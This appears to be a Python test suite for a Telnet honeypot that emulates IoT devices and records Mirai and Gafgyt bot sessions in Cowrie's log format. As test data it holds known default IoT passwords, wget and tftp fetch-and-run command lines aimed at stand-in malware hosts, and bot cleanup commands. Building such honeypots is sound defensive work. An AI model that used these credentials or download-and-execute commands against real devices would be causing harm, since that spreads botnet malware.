#!/usr/bin/env python3
"""mamori lure end to end on loopback: the Mirai scanner login, the Mirai
loader on all three personas (wget on the DVR, tftp on the camera, the echo
dropper on the router) run to their cleanup; a Gafgyt loader reads the ELF
header of its copy of /bin/echo; every event has Cowrie's fields; the
database, indicators and `mamori report` hold the same facts; userdb rules,
failed-login limit, login timeout, per-source rate limit; bad options give
one line and a non-zero exit."""
import json
import os
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(__file__))
from lurelib import (M, ROOT, Honeypot, Telnet, gafgyt, mirai_login, mirai_loader, sha256,
                     dropper_payload, scratch)

errors = []


def check(cond, what):
    if not cond:
        errors.append(what)
        print("FAIL:", what, file=sys.stderr)


COMMON = ["sensor", "timestamp", "session", "src_ip", "src_port", "dst_ip", "dst_port",
          "eventid", "message", "protocol"]


def check_events(evs, where):
    for e in evs:
        missing = [k for k in COMMON if k not in e]
        check(not missing, f"{where}: {e['eventid']} lacks {missing}")
        check(e["timestamp"].endswith("Z") and "T" in e["timestamp"], f"{where}: timestamp {e['timestamp']}")
    by = {}
    for e in evs:
        by.setdefault(e["session"], []).append(e["eventid"])
    for sid, ids in by.items():
        check(ids[0] == "cowrie.session.connect", f"{where}: {sid} starts with {ids[0]}")
        check(ids[-1] == "cowrie.session.closed" and ids.count("cowrie.session.closed") == 1,
              f"{where}: {sid} does not end with one session.closed: {ids[-3:]}")


def loader_run(persona, user, password, want_method):
    hp = Honeypot(persona=persona)
    t = Telnet(hp.port)
    seen = mirai_loader(t, user, password)
    t.close()
    check(hp.stop() == 0, f"{persona}: lure exit status")
    where = f"loader/{persona}"
    check(seen["stages"] == ["login", "mounts", "writable", "arch", "download", "run", "cleanup"],
          f"{where}: stages {seen['stages']}")
    check(seen["method"] == want_method, f"{where}: method {seen['method']} != {want_method}")
    evs = hp.read_events()
    check_events(evs, where)
    ids = [e["eventid"] for e in evs]
    check(ids.count("cowrie.login.success") == 1, f"{where}: login.success count")
    ok = [e for e in evs if e["eventid"] == "cowrie.login.success"][0]
    check((ok["username"], ok["password"]) == (user, password), f"{where}: credentials {ok}")
    cmds = [e["input"] for e in evs if e["eventid"] == "cowrie.command.input"]
    check(any("ECCHI" in c for c in cmds) and any("IHCCE" in c for c in cmds),
          f"{where}: token commands missing")
    check(cmds[-1] == "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI", f"{where}: last command {cmds[-1]}")
    dl = [e for e in evs if e["eventid"] == "cowrie.session.file_download"]
    arch = seen["arch"]
    if want_method == "wget":
        url = f"http://198.18.0.9:80/bins/mirai.{arch}"
        check([d.get("url") for d in dl] == [url], f"{where}: downloads {dl}")
        check(dl and dl[0]["host"] == "198.18.0.9" and dl[0]["fetched"] is False, f"{where}: {dl}")
    elif want_method == "tftp":
        url = f"tftp://198.18.0.9/mirai.{arch}"
        check([d.get("url") for d in dl] == [url], f"{where}: downloads {dl}")
        check(dl and dl[0]["destfile"] == f"{seen['path']}/dvrHelper", f"{where}: destfile {dl}")
    else:
        payload = seen["payload"]
        digest = sha256(payload)
        files = [d for d in dl if "shasum" in d]
        check([d["shasum"] for d in files] == [digest], f"{where}: shasum {files} != {digest}")
        check(files and files[0]["destfile"] == f"{seen['path']}/upnp", f"{where}: {files}")
        stored = os.path.join(hp.files, digest)
        check(os.path.exists(stored) and open(stored, "rb").read() == payload,
              f"{where}: stored file {stored}")
        check(not [f for f in os.listdir(hp.files) if f.startswith(".part")],
              f"{where}: staging files left: {os.listdir(hp.files)}")
        check(hp.query("SELECT sha256, size, path FROM lure_downloads WHERE kind='file'") ==
              [(digest, len(payload), f"{seen['path']}/upnp")], f"{where}: downloads row")
        check(hp.query("SELECT count FROM indicators WHERE type='sha256' AND value=?", digest) ==
              [(1,)], f"{where}: sha256 indicator")
        url = None
    # arch detection must match what the persona claims
    want_arch = {"dvr-armv7": "arm7", "camera-arm": "arm", "router-mips": "mips"}[persona]
    check(arch == want_arch, f"{where}: arch {arch} != {want_arch}")
    rows = hp.query("SELECT username, password, login_ok, commands, close_reason, persona "
                    "FROM lure_sessions")
    check(len(rows) == 1 and rows[0][:3] == (user, password, 1) and rows[0][3] == len(cmds)
          and rows[0][5] == persona, f"{where}: session row {rows}")
    check(hp.query("SELECT count(*) FROM lure_commands")[0][0] == len(cmds), f"{where}: commands rows")
    if url:
        check(hp.query("SELECT type, count FROM indicators WHERE value=?", url) == [("url", 1)],
              f"{where}: url indicator")
        check(hp.query("SELECT count FROM indicators WHERE type='host' AND value='198.18.0.9'") ==
              [(1,)], f"{where}: host indicator")
    check(hp.query("SELECT count(*) FROM indicators WHERE type='loader-ip' AND value='127.0.0.1'")
          == [(1,)], f"{where}: loader-ip indicator")
    return hp, url


def test_loaders():
    hp, url = loader_run("dvr-armv7", "root", "xc3511", "wget")
    # the report's honeypot section
    out = subprocess.run([M, "report", "--db", hp.db, "--format", "json", "--top", "0"],
                         capture_output=True, text=True)
    check(out.returncode == 0, f"report: {out.stderr}")
    doc = json.loads(out.stdout)
    h = doc.get("honeypot", {})
    check(h.get("sessions") == 1 and h.get("logins_ok") == 1 and h.get("sources") == 1
          and h.get("urls_seen") == 1, f"report honeypot totals {h}")
    check([(x["ip"], x["sessions"]) for x in h.get("top_sources", [])] == [("127.0.0.1", 1)],
          f"report honeypot sources {h.get('top_sources')}")
    check([(c["username"], c["password"]) for c in h.get("credentials", [])] == [("root", "xc3511")],
          f"report credentials {h.get('credentials')}")
    check([u["url"] for u in h.get("urls", [])] == [url], f"report urls {h.get('urls')}")
    top = h.get("commands", [])
    ncmd = len([e for e in hp.read_events() if e["eventid"] == "cowrie.command.input"])
    check(sum(c["count"] for c in top) == ncmd == h.get("commands_run") and
          "enable" in [c["input"] for c in top], f"report commands {top[:2]}")
    text = subprocess.run([M, "report", "--db", hp.db], capture_output=True, text=True).stdout
    check("Honeypot" in text and url in text and "root/xc3511" in text, f"report text:\n{text}")
    csv = subprocess.run([M, "report", "--db", hp.db, "--format", "csv"], capture_output=True,
                         text=True).stdout.splitlines()
    check("honeypot_credentials,root/xc3511,1,," in csv and f"honeypot_urls,{url},1,," in csv,
          f"report csv: {csv[-8:]}")
    loader_run("camera-arm", "root", "vizxv", "tftp")
    hp, _ = loader_run("router-mips", "admin", "admin", "echo")
    out = subprocess.run([M, "report", "--db", hp.db, "--format", "json"], capture_output=True,
                         text=True)
    h = json.loads(out.stdout).get("honeypot", {})
    digest = sha256(dropper_payload("mips"))
    check([x["sha256"] for x in h.get("hashes", [])] == [digest], f"report hashes {h.get('hashes')}")


def test_scanner_and_gafgyt():
    hp = Honeypot()
    t = Telnet(hp.port)
    check(mirai_login(t, "root", "xc3511"), "scanner: good credentials not accepted")
    check((253, 31) in t.options and (253, 1) in t.options and (251, 1) in t.options
          and (251, 3) in t.options, f"greeting options {t.options}")
    t.close()
    t = Telnet(hp.port)
    check(not mirai_login(t, "root", "wrongpass"), "scanner: bad credentials accepted")
    t.close()
    t = Telnet(hp.port)
    head, loop = gafgyt(t, "admin", "admin", "http://198.18.0.7/bins/x86")
    t.close()
    body = head.split(b"QBOT\r\n", 1)[-1]
    i = body.find(b"\x7fELF")
    check(i >= 0 and body[i + 4:i + 7] == b"\x01\x01\x01" and body[i + 18] == 40,
          f"gafgyt: ELF header of .s: {body[:80]!r}")
    check(b"1+0 records in" in body, f"gafgyt: dd records: {body[-80:]!r}")
    check(b"\x7fELF" in loop, f"gafgyt: while-read loop gave {loop[-60:]!r}")
    check(hp.stop() == 0, "scanner: exit status")
    evs = hp.read_events()
    check_events(evs, "scanner")
    failed = [e for e in evs if e["eventid"] == "cowrie.login.failed"]
    check([(e["username"], e["password"]) for e in failed] == [("root", "wrongpass")],
          f"login.failed events {failed}")
    urls = [e["url"] for e in evs if e["eventid"] == "cowrie.session.file_download"]
    check(urls == ["http://198.18.0.7/bins/x86"], f"gafgyt urls {urls}")
    sizes = [e for e in evs if e["eventid"] == "cowrie.client.size"]
    check(sizes and (sizes[0]["width"], sizes[0]["height"]) == (80, 24), f"client.size {sizes}")
    cmds = [e["input"] for e in evs if e["eventid"] == "cowrie.command.input"]
    check("/bin/busybox MIRAI" in cmds and "enable" in cmds, "scanner commands not logged")
    # the Gafgyt session ran ./x, which wget left empty and chmod made executable: it ran;
    # nothing in these sessions was unknown to the device
    check(not [e for e in evs if e["eventid"] == "cowrie.command.failed"], "command.failed logged")
    # nothing stored for the Gafgyt copy of /bin/echo: it is the persona's own busybox
    check(not os.listdir(hp.files), f"files stored: {os.listdir(hp.files)}")


def test_userdb_and_limits():
    d = scratch()
    udb = os.path.join(d, "userdb.txt")
    with open(udb, "w") as f:
        f.write("# test rules\nroot:x:!root\nroot:x:/^adm/i\nguest:x:*\n/^sup+ort$/:x:s3cret\n")
    hp = Honeypot("--userdb", udb, "--login-timeout", "1", "--rate", "10", tmp=d)
    cases = [("root", "root", False), ("root", "ADMIN1", True), ("root", "x", False),
             ("guest", "anything", True), ("suppport", "s3cret", True), ("support", "no", False)]
    for user, pw, ok in cases:
        t = Telnet(hp.port, source="127.0.0.2")
        got = mirai_login(t, user, pw)
        check(got == ok, f"userdb: {user}/{pw} accepted={got}, want {ok}")
        t.close()
    # three failures close the connection, as BusyBox login does
    t = Telnet(hp.port, source="127.0.0.3")
    for i in range(3):
        t.read_until(b"login: ")
        t.send("root")
        t.read_until(b"Password: ")
        t.send("root")
        t.read_until(b"Login incorrect")
    check(t.read_eof(5), "three failed logins did not close the session")
    t.close()
    # a client that sends nothing is closed by the login timeout
    t = Telnet(hp.port, source="127.0.0.4")
    t.read_until(b"login: ")
    check(t.read_eof(5), "login timeout did not close an idle session")
    t.close()
    # a client that trickles bytes is still closed when the login timeout (from connect) ends
    t = Telnet(hp.port, source="127.0.0.7")
    t.read_until(b"login: ")
    start = time.monotonic()
    closed = False
    while time.monotonic() - start < 4 and not closed:
        try:
            t.s.sendall(b"r")
        except OSError:
            closed = True
            break
        closed = t.read_eof(0.3)
    check(closed and time.monotonic() - start < 2.5, "trickling client outlived the login timeout")
    t.close()
    # per-source rate: a burst of 10, then refused (closed without a greeting)
    greeted = 0
    for i in range(14):
        t = Telnet(hp.port, source="127.0.0.5")
        try:
            t.read_until(b"login: ", deadline=3)
            greeted += 1
        except (EOFError, ConnectionResetError):
            pass
        t.close()
    check(10 <= greeted <= 11, f"rate limit: {greeted} of 14 greeted, want 10 (burst)")
    t = Telnet(hp.port, source="127.0.0.6")  # another source is not limited
    t.read_until(b"login: ")
    t.close()
    check(hp.stop() == 0, "limits: exit status")
    evs = hp.read_events()
    check_events(evs, "limits")
    connects = [e for e in evs if e["eventid"] == "cowrie.session.connect" and e["src_ip"] == "127.0.0.5"]
    check(len(connects) == greeted, f"rate: {len(connects)} sessions logged, {greeted} greeted")
    reasons = dict(hp.query("SELECT src_ip, close_reason FROM lure_sessions WHERE src_ip IN "
                            "('127.0.0.3', '127.0.0.4', '127.0.0.7')"))
    check(reasons == {"127.0.0.3": "login", "127.0.0.4": "timeout", "127.0.0.7": "timeout"},
          f"close reasons {reasons}")


def test_raw_and_ipv6():
    hp = Honeypot(listen="127.0.0.1:0,[::1]:0")
    port6 = int(hp.banner.split(" on ")[1].split(" ")[0].split(",")[1].rsplit(":", 1)[1])
    # a bot that ignores telnet and writes everything at once, then hangs up
    s = socket.create_connection(("::1", port6))
    s.sendall(b"root\r\nxc3511\r\necho raw-ok; /bin/busybox MIRAI\r\nexit\r\n")
    data = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        data += d
    s.close()
    check(b"raw-ok" in data and b"MIRAI: applet not found" in data, f"raw client got {data[-200:]!r}")
    # output escapes IAC: 0xff from echo -ne comes back doubled on the wire
    t = Telnet(hp.port)
    mirai_login(t, "root", "xc3511")
    t.send("echo -ne '\\xff\\xfe\\n'; nosuchcmd -x; /bin/busybox ECCHI")
    _, data = t.read_until(b"ECCHI: applet not found")
    check(b"\xff\xfe\r\n" in data, f"IAC escaping: {data[-60:]!r}")
    # bytes that are not UTF-8 in a URL and a file name end up as \xNN text in the events
    t.send(b"cd /tmp; wget http://198.18.0.1/\xff\xff\xc3.sh; echo -ne '" + b"\\x42" * 40 +
           b"' > \xe9t\xe9; chmod +x \xe9t\xe9; ./\xe9t\xe9; /bin/busybox ECCHI")
    t.read_until(b"ECCHI: applet not found")
    t.close()
    check(hp.stop() == 0, "raw: exit status")
    evs = hp.read_events()
    check_events(evs, "raw")
    check(any(e["src_ip"] == "::1" and e["eventid"] == "cowrie.login.success" for e in evs),
          "IPv6 session not logged")
    urls = [e["url"] for e in evs if e["eventid"] == "cowrie.session.file_download"]
    check(urls == ["http://198.18.0.1/\\xff\\xc3.sh", "/tmp/\\xe9t\\xe9"], f"non-UTF-8 urls {urls}")
    failed = [e["input"] for e in evs if e["eventid"] == "cowrie.command.failed"]
    check(failed == ["nosuchcmd -x"], f"command.failed events {failed}")


def test_no_outputs():
    """--events - and --db - (and --files -): the honeypot runs with nothing written."""
    hp = Honeypot("--events", "-", "--db", "-", "--files", "-")
    t = Telnet(hp.port)
    check(mirai_login(t, "root", "xc3511"), "no outputs: login")
    t.send("echo -ne '" + "\\x41" * 40 + "' > /tmp/a; ./a; /bin/busybox ECCHI")
    t.read_until(b"ECCHI: applet not found")
    t.close()
    check(hp.stop() == 0, "no outputs: exit status")
    check(not os.path.exists(hp.events) and not os.path.exists(hp.db) and
          not os.path.exists(hp.files), f"no outputs: something written in {os.listdir(hp.dir)}")
    check("1 sessions" in hp.summary and "1 files" in hp.summary, f"no outputs: {hp.summary}")


def test_bad_input():
    d = scratch()
    bad_udb = os.path.join(d, "bad.txt")
    with open(bad_udb, "w") as f:
        f.write("root:x:ok\nnocolons\n")
    bad_re = os.path.join(d, "re.txt")
    with open(bad_re, "w") as f:
        f.write("root:x:/[unclosed/\n")
    bad_persona = os.path.join(d, "x.persona")
    with open(bad_persona, "w") as f:
        f.write("name: x\nhostname: h\narch: vax\n")
    busy = socket.socket()
    busy.bind(("127.0.0.1", 0))
    busy.listen(1)
    port = busy.getsockname()[1]
    cases = [
        (["--persona", "nosuch"], "persona 'nosuch' not found"),
        (["--persona", bad_persona], "missing 'login_prompt'"),
        (["--userdb", bad_udb], "bad.txt:2: expected user:x:password"),
        (["--userdb", bad_re], "re.txt:1: bad regular expression"),
        (["--userdb", os.path.join(d, "missing")], "No such file"),
        (["--listen", "127.0.0.1"], "is not ADDR:PORT"),
        (["--listen", "127.0.0.1:99999"], "bad port"),
        (["--listen", "999.0.0.1:23"], "not an IPv4 address"),
        (["--listen", f"127.0.0.1:{port}"], "Address already in use"),
        (["--rate", "-1"], "--rate"),
        (["--user", "no-such-user-xyz"], "no user"),
        (["stray"], "unexpected argument"),
    ]
    for args, want in cases:
        r = subprocess.run([M, "lure", "--events", os.path.join(d, "e.json"), "--db",
                            os.path.join(d, "m.db"), "--files", os.path.join(d, "f"),
                            "--listen", "127.0.0.1:0", *args], capture_output=True, text=True,
                           timeout=30, env=dict(os.environ, MAMORI_DATA=os.path.join(ROOT, "data")))
        lines = r.stderr.strip().splitlines()
        check(r.returncode in (1, 2) and len(lines) == 1 and lines[0].startswith("mamori: ")
              and want in lines[0], f"bad input {args}: rc={r.returncode} stderr={r.stderr!r}")
    busy.close()


if __name__ == "__main__":
    for t in (test_loaders, test_scanner_and_gafgyt, test_userdb_and_limits, test_raw_and_ipv6,
              test_no_outputs, test_bad_input):
        t()
    if errors:
        sys.exit(f"{len(errors)} failures")
    print("lure: all checks passed")
